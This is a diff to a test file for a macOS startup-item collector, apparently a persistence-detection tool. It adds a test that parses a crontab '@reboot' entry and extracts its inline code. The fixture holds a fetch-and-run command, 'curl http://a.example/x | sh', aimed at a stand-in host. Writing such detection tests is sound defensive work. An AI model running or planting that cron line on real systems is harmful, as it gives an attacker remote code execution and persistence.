@@ -231,6 +231,17 @@ describe('macos-startup', () => {
     expect(records[0]?.payloads[0]).toMatchObject({ role: 'hosted-program', path: '/Users/alice/bin/x' });
   });
 
+  it('takes what a crontab hands an interpreter for code', () => {
+    const { records, diagnostics } = collectStartup({
+      '/private/var/at/tabs/alice': '@reboot /bin/sh%curl http://a.example/x | sh%exit\nnonsense\n',
+    });
+    expect(records[0]?.payloads.map(({ role, raw }) => [role, raw])).toContainEqual([
+      'inline-code',
+      'curl http://a.example/x | sh\nexit',
+    ]);
+    expect(diagnostics.map(({ code }) => code)).toEqual(['crontab-odd']);
+  });
+
   it('finds what lies on the data volume, and nothing twice', () => {
     const hook = writeXmlPlist({ LoginHook: '/x' });
     const preferences = 'Library/Preferences/com.apple.loginwindow.plist';
@@ -277,7 +288,7 @@ describe('macos-startup', () => {
       '/private/var/at/tabs/alice': '@reboot /x\n'.repeat(6_000),
     });
     expect(records).toHaveLength(5_000);
-    expect(diagnostics.map(({ code }) => code)).toEqual(['startup-limit']);
+    expect(diagnostics.map(({ code }) => code)).toEqual(['crontab-odd']);
   });
 
   it.skipIf(!corpusAvailable)('reads the parameters of a real startup item (corpus)', () => {
